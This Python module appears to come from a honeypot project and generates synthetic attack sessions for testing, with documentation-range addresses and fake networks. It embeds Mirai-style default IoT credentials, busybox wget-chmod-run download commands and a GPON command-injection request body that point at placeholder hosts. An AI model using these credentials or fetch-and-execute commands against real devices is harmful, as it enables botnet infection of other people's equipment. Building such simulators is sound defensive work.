"""Made-up attacks in any number: for tests, benches and screenshots. Deterministic: one seed, one set of events.

They are skewed as real ones are (few networks, few passwords and few samples make up most of it). Addresses and AS
numbers are of the ranges kept for documentation and shared use (RFC 5737, RFC 6598, RFC 3849, RFC 5398), so that
nobody real is accused; their countries are therefore stated here and do not come from a GeoIP table.
"""

from __future__ import annotations

import hashlib
import itertools
import math
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from eudaemon.events import Endpoint, Event, Fact, IdSource
from eudaemon.events import catalogue as facts
from eudaemon.wire import conversation

# country, weight, name of the made-up network
_NETWORKS = (
    ("CN", 220, "Example Backbone East"), ("US", 130, "Example Cloud West"), ("BR", 90, "Rede Exemplo"),
    ("IN", 85, "Example Broadband"), ("VN", 60, "Vi Du Telecom"), ("RU", 60, "Primer Telecom"),
    ("ID", 45, "Contoh Net"), ("TW", 40, "Example Island Net"), ("KR", 35, "Example Fiber"), ("IR", 32, "Mesal Net"),
    ("EG", 30, "Example Nile"), ("TR", 28, "Ornek Telekom"), ("UA", 24, "Pryklad Net"), ("TH", 22, "Example Siam"),
    ("NL", 40, "Voorbeeld Hosting"), ("DE", 24, "Beispiel Rechenzentrum"), ("FR", 18, "Exemple Cloud"),
    ("GB", 16, "Example Hosting"), ("BG", 16, "Primer Hosting"), ("MX", 16, "Red Ejemplo"), ("AR", 14, "Ejemplo Sur"),
    ("PK", 14, "Example Link"), ("ZA", 10, "Example Cape"), ("NG", 8, "Example Lagos"),
    ("SG", 14, "Example Cloud Asia"),
    ("HK", 12, "Example Harbour"), ("JP", 10, "Example Tokyo"), ("PL", 9, "Przyklad"), ("RO", 9, "Exemplu"),
    ("IT", 8, "Esempio"), ("ES", 8, "Ejemplo"), ("CA", 7, "Example North"), ("KE", 4, "Mfano"),
    ("AU", 4, "Example South"),
    ("SE", 4, "Exempel"), ("CO", 6, "Ejemplo Andes"), ("CL", 4, "Ejemplo Pacifico"), ("PH", 8, "Halimbawa"),
    ("MY", 6, "Contoh Utara"), ("KZ", 4, "Mysal"), ("MA", 3, "Mithal"), ("", 3, ""),
)  # fmt: skip
_USERS = ("root", "admin", "guest", "user", "support", "default", "supervisor", "ubnt", "telnetadmin", "service")
_PASSWORDS = (
    "admin", "123456", "xc3511", "root", "vizxv", "1234", "default", "", "password", "12345", "54321",
    "888888", "juantech",
    "xmhdipc", "user", "klv123", "anko", "7ujMko0admin", "zlxx.", "hi3518", "jvbzd", "Zte521", "taZz@23495859", "ikwb",
    "dreambox", "realtek", "GMB182", "system", "meinsm", "5up", "fucker", "smcadmin", "pass", "666666",
    "1111", "p@ssw0rd",
)  # fmt: skip
_SHELL = ("enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cat /proc/mounts; /bin/busybox ECCHI",
          "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
          "cat /bin/echo", "ps; /bin/busybox ECCHI")  # fmt: skip
_EXPLOITS = (("Dasan GPON diag_Form", "CVE-2018-10561"), ("Netgear setup.cgi", "CVE-2016-6277"),
             ("TR-064 NewNTPServer1", "CVE-2016-10372"), ("ThinkPHP invokefunction", "CVE-2018-20062"),
             ("TP-Link locale country", "CVE-2023-1389"), ("Realtek SDK miniigd", "CVE-2014-8361"),
             ("Huawei HG532 upgrade", "CVE-2017-17215"))  # fmt: skip
_TARGETS = (
    "/",
    "/robots.txt",
    "/.env",
    "/login.htm",
    "/boaform/admin/formLogin",
    "/cgi-bin/luci",
    "/HNAP1/",
    "/favicon.ico",
)
_MACHINES = ("arm7", "mips", "mpsl", "x86", "arm", "sh4", "ppc", "x86_64", "arm5", "m68k")
_RULES = (("mirai_scanner",), ("gafgyt_flood", "upx_packed"), ("mirai_scanner", "mirai_table_key"), ())
_BANNER = b"\r\nBCM96338 ADSL Router\r\nLogin: "
SENSORS = ("ams-1", "fra-2", "lab", "sgp-1")
SAMPLES_MAX = 240


@dataclass(frozen=True, slots=True)
class Attacker:
    """Somebody who attacks: what a GeoIP table would say of the address stands beside it."""

    ip: str
    country: str
    asn: int
    as_name: str


@dataclass(frozen=True, slots=True)
class Seen:
    """One event and what the farm would add to it."""

    event: Event
    attacker: Attacker | None


class Synthetic:
    """Makes attacks that end at `end_s` and spread over `days`.

    `keep(data)` is given every recorded conversation and returns its SHA-256; without it no conversation is recorded.
    """

    def __init__(
        self, *, seed: int = 1, end_s: float, days: float = 7.0, keep: Callable[[bytes], str] | None = None
    ) -> None:
        self._dice = random.Random(seed)  # noqa: S311 - repeatable, not secret
        self._ids = IdSource(self._dice.randbytes)
        self._end_s, self._span_s, self._keep = end_s, days * 86_400, keep
        weights = [weight for _, weight, _ in _NETWORKS]
        self._networks = self._dice.choices(range(len(_NETWORKS)), weights, k=4096)

    def events(self, count: int) -> Iterator[Seen]:
        """Yield exactly `count` events, oldest session first."""
        left, attackers = count, max(20, count // 70)
        while left:
            share = 1 - left / count
            wave = 0.02 * math.sin(share * self._span_s / 86_400 * 2 * math.pi)  # by day and by night
            at_s = self._end_s - self._span_s * (1 - min(1.0, max(0.0, share + wave * share * (1 - share))))
            for seen in self._session(at_s, attackers):
                if left == 0:
                    return
                left -= 1
                yield seen

    def _session(self, at_s: float, attackers: int) -> Iterator[Seen]:
        dice = self._dice
        who = self._attacker(int(attackers * dice.random() ** 3))
        draw = dice.random()
        sensor = SENSORS[int(len(SENSORS) * dice.random() ** 1.6)]
        room, port, story = (
            ("telnet", 23, self._guessing) if draw < 0.50
            else ("telnet", 2323 if draw < 0.55 else 23, self._infection) if draw < 0.66
            else ("http", 80, self._probing) if draw < 0.80
            else ("http", dice.choice((80, 8080, 8000, 8443)), self._exploit) if draw < 0.88
            else ("catchall", dice.choice((21, 445, 5555, 1433, 3389, 6379, 5060)), self._unknown)
        )  # fmt: skip
        session, source = self._ids.new(at_s), Endpoint(who.ip, 1024 + int(dice.random() * 64_000))
        local, now_s, talk = (
            Endpoint(f"192.0.2.{10 + SENSORS.index(sensor)}", port),
            at_s,
            _Talk(self._keep is not None),
        )
        transport = "udp" if port == 5060 else "tcp"
        begin = (0.0, facts.SessionOpened(transport, room))
        for wait_s, fact in itertools.chain((begin,), story(talk), ((0.4, None),)):
            now_s += wait_s * (0.5 + dice.random())
            talk.ms = int((now_s - at_s) * 1000)
            if fact is None:
                kept = self._keep(talk.recording()) if self._keep and talk.pieces else ""
                size_in, size_out = (
                    talk.sizes() if talk.pieces else (int(dice.random() * 900), int(dice.random() * 1500))
                )
                fact = facts.SessionClosed(
                    room,
                    dice.choice(("peer", "peer", "peer", "idle", "room")),
                    round(now_s - at_s, 3),
                    size_in,
                    size_out,
                    kept,
                )
            yield Seen(Event(self._ids.new(now_s), now_s, sensor, fact, session, source, local), who)

    def _attacker(self, number: int) -> Attacker:
        network = self._networks[number * 2654435761 % 4096]
        country, _, as_name = _NETWORKS[network]
        if number % 19 == 7:
            ip = f"2001:db8:{network:x}:{number >> 8:x}::{number & 0xFF:x}"
        else:
            ip = f"100.{64 + network}.{number >> 8 & 0xFF}.{number & 0xFF}"
        return Attacker(ip, country, 64496 + network if as_name else 0, as_name)

    def _login(self, accepted: bool) -> facts.LoginTried:
        user = _USERS[int(len(_USERS) * self._dice.random() ** 2.5)]
        return facts.LoginTried(user, _PASSWORDS[int(len(_PASSWORDS) * self._dice.random() ** 2)], accepted)

    def _guessing(self, talk: _Talk) -> Iterator[tuple[float, Fact]]:
        talk.host(_BANNER)
        for _ in range(1 + int(5 * self._dice.random() ** 2)):
            tried = self._login(False)
            talk.login(tried.user, tried.password or "", accepted=False)
            yield 0.9, tried

    def _infection(self, talk: _Talk) -> Iterator[tuple[float, Fact]]:
        talk.host(_BANNER)
        tried = self._login(True)
        talk.login(tried.user, tried.password or "", accepted=True)
        yield 0.8, tried
        number, url, sha256, size, _ = self._sample()
        name = url.rsplit("/", 1)[1]
        fetch = f"/bin/busybox wget {url} -O - > .{name}; chmod 777 .{name}; ./.{name} telnet.{_MACHINES[number % 10]}"
        for line in (*_SHELL[: 3 + int(7 * self._dice.random())], fetch, f">/tmp/.{name}; rm -rf .{name}"):
            talk.line(line)
            yield 0.25, facts.CommandEntered(line, ("enable",) if line == "enable" else ())
            if line is fetch:
                yield from self._download(url, "wget", sha256, size, name)

    def _probing(self, talk: _Talk) -> Iterator[tuple[float, Fact]]:
        target = _TARGETS[int(len(_TARGETS) * self._dice.random() ** 2)]
        talk.peer(f"GET {target} HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: zgrab/0.x\r\n\r\n".encode())
        yield 0.1, facts.RequestReceived("GET", target, "192.0.2.10", "Mozilla/5.0 zgrab/0.x")
        talk.host(b"HTTP/1.1 404 Not Found\r\nServer: mini_httpd/1.19\r\nContent-Length: 0\r\n\r\n")

    def _exploit(self, talk: _Talk) -> Iterator[tuple[float, Fact]]:
        name, reference = _EXPLOITS[int(len(_EXPLOITS) * self._dice.random() ** 1.7)]
        _, url, sha256, size, _ = self._sample()
        command = f"cd /tmp; wget {url} -O x; chmod 777 x; ./x"
        target = "/GponForm/diag_Form?images/"
        talk.peer(f"POST {target} HTTP/1.1\r\nHost: 192.0.2.10\r\n\r\nXWebPageName=diag&dest_host=`{command}`".encode())
        yield 0.1, facts.RequestReceived("POST", target, "192.0.2.10", "Hello, World", len(command) + 30)
        yield 0.01, facts.ExploitRecognised(name, reference, command)
        talk.host(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        yield from self._download(url, "wget", sha256, size, url.rsplit("/", 1)[1])

    def _unknown(self, talk: _Talk) -> Iterator[tuple[float, Fact]]:
        guess, head = self._dice.choice(
            (("smb", "00000085ff534d42"), ("unknown", "0000000e"), ("rdp", "0300002b26e0"), ("adb", "434e584e"))
        )
        talk.peer(bytes.fromhex(head))
        yield 0.05, facts.PayloadClassified(guess, head)

    def _sample(self) -> tuple[int, str, str, int, str]:
        number = int(SAMPLES_MAX * self._dice.random() ** 3)
        name = f"{'bot' if number % 3 else 'sora'}.{_MACHINES[number % 10]}"
        url = f"http://198.51.100.{number // 10 % 200 + 10}/bins/{name}"
        sha256 = hashlib.sha256(b"synthetic sample %d" % number).hexdigest()
        return number, url, sha256, 20_000 + number * 977 % 90_000, _MACHINES[number % 10]

    def _download(self, url: str, tool: str, sha256: str, size: int, name: str) -> Iterator[tuple[float, Fact]]:
        yield 0.01, facts.DownloadWished(url, tool)
        if self._dice.random() < 0.2:
            yield 5.0, facts.DownloadFinished(url, "failed", "connection refused", "", 0, url.split("/")[2], 5.0)
            return
        yield 0.6, facts.DownloadFinished(url, "ok", "", sha256, size, url.split("/")[2], 0.6)
        yield 0.01, facts.ArtefactKept(sha256, size, "download", name, url)

    def identified(self, at_s: float) -> Iterator[Seen]:
        """Yield what the farm says of every sample that the attacks can bring."""
        for number in range(SAMPLES_MAX):
            machine = _MACHINES[number % 10]
            fact = facts.SampleIdentified(
                hashlib.sha256(b"synthetic sample %d" % number).hexdigest(), 20_000 + number * 977 % 90_000, "elf",
                f"ELF 32-bit, {machine}, statically linked, stripped", _RULES[number % 4], f"768:{number:x}synthetic",
            )  # fmt: skip
            yield Seen(Event(self._ids.new(at_s), at_s, "farm", fact), None)


class _Talk:
    """Writes down what both sides of a made-up session say."""

    def __init__(self, wanted: bool) -> None:
        self.wanted, self.ms, self.pieces = wanted, 0, list[tuple[int, int, bytes]]()

    def host(self, data: bytes) -> None:
        self._say(conversation.HOST, data)

    def peer(self, data: bytes) -> None:
        self._say(conversation.ATTACKER, data)

    def _say(self, side: int, data: bytes) -> None:
        if self.wanted:
            before_ms = self.pieces[-1][1] if self.pieces else -20
            self.pieces.append((side, max(self.ms, before_ms + 20), data))

    def login(self, user: str, password: str, *, accepted: bool) -> None:
        self.peer(f"{user}\r\n".encode())
        self.host(f"{user}\r\nPassword: ".encode())
        self.peer(f"{password}\r\n".encode())
        answer = (
            "\r\n\r\nBusyBox v1.19.4 built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# "
        )
        self.host((answer if accepted else "\r\nLogin incorrect\r\nLogin: ").encode())

    def line(self, line: str) -> None:
        self.peer(f"{line}\r\n".encode())
        name = line.split()[-1] if "busybox" in line else line.split()[0]
        said = f"{name}: applet not found\r\n" if line.startswith("/bin/busybox E") else ""
        self.host(f"{line}\r\n{said}# ".encode())

    def sizes(self) -> tuple[int, int]:
        return tuple(sum(len(d) for s, _, d in self.pieces if s == side) for side in (0, 1))  # type: ignore[return-value]

    def recording(self) -> bytes:
        return conversation.MAGIC + b"".join(conversation.encode(*piece) for piece in self.pieces)
